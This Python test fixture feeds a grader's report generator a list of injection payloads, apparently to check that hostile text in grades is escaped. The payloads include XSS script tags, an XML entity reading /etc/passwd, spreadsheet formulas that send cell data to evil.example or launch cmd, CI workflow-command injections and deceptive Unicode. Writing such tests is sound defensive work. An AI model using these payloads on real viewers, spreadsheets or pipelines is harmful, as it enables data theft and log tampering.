"""Texts that attack a reader of a report, and grades in which a student says nothing else."""

from __future__ import annotations

import dataclasses

from grader.model import Grade, Interleaving, Located, Verdict
from tests.report import samples

ATTACKS = {
    "script": '</td><script>alert(1)</script><img src=x onerror="alert(2)">',
    "comment": "<!-- --><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;]]>",
    "template": "{{ 7*7 }}${7*7}{0}%s<%= 7*7 %>",
    "escapes": "\x1b[31mred\x1b]8;;https://evil.example\x07link\x1b[2J\x9b1A",
    "bidi": "a\u202eb\u2066c\u2069d\u200be\ufefff\u00adg",
    "tags": "".join(chr(0xE0000 + ord(letter)) for letter in "hidden"),
    "shapeless": "a\u3164b\u115fc\u2800d",
    "nul": "a\x00b\x08\x08c\x7fd\x0ce\x85f\u2028g",
    "surrogate": "a\ud800b\udfffc\udc80",
    "no characters": "a\ufffeb\uffffc\ufdd0d\U0010ffff",
    "long": "x" * 10_000_000,
    "formula": '=HYPERLINK("https://evil.example?"&A1,"x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula after a tab": "\t=1+1\r\n=2+2",
    "formula wide": "\uff1d1+1",
    "command": "::error file=x::owned",
    "command after blanks": " \t ::stop-commands::token\n  ::add-mask::e\r::debug::x",
    "old command": "x ##[add-mask]e and ##vso[task.complete]x and ###[error]y",
    "teamcity": "##teamcity[testFailed name='x']",
    "link": "[x](javascript:alert(1)) ![x](https://evil.example/p.png) <https://evil.example>",
    "reference": "[x]: https://evil.example\n[x]",
    "address": "https://evil.example www.evil.example someone@evil.example",
    "call": "@everyone @org/team fixes #1 GH-1 owner/repo#2 :bomb: $x$",
    "marks": "# head\n- item\n> quote\n***bold*** __x__ ~~y~~ \\ `` ` `` ```\n| a | b |\n|---|---|\n===",
    "code": "`` `x` ` a`b |`|`` ##[error] `",
    "quotes": '"\'`;--,""\n","',
    "percent": "%0A::error::x%0D%25",
    "stacked": "a" + "\u0301" * 3000,
}


def attacked(text: str) -> Grade:
    """Return a grade in which everything that a student can decide is one text."""
    steps = tuple(
        samples.step(number % 3, 1, text, text, text, text, file=text, repeats=2)
        for number in range(4)
    )
    schedule = Interleaving(
        story=text,
        threads=(text, text, f"{text}2"),
        steps=steps,
        cycle=(text, text),
        conflict=(0, 1, 2),
        preemptions=1,
        token=text,
    )
    located = Located(line=1, source=text, error=text, detail=text)
    checks = (
        samples.check(0),
        samples.check(1, Verdict.DEADLOCK, text, schedule),
        samples.check(2, Verdict.RAISED, text, located),
        samples.check(3, Verdict.WRONG_RESULT, text),
    )
    return samples.grade(text, text, checks)


def attacked_rejection(text: str) -> Grade:
    """Return a rejected submission whose name and reason are one text."""
    grade = samples.rejected()
    assert grade.reason
    reason = dataclasses.replace(grade.reason, message=text)
    return dataclasses.replace(grade, submission=text, reason=reason)
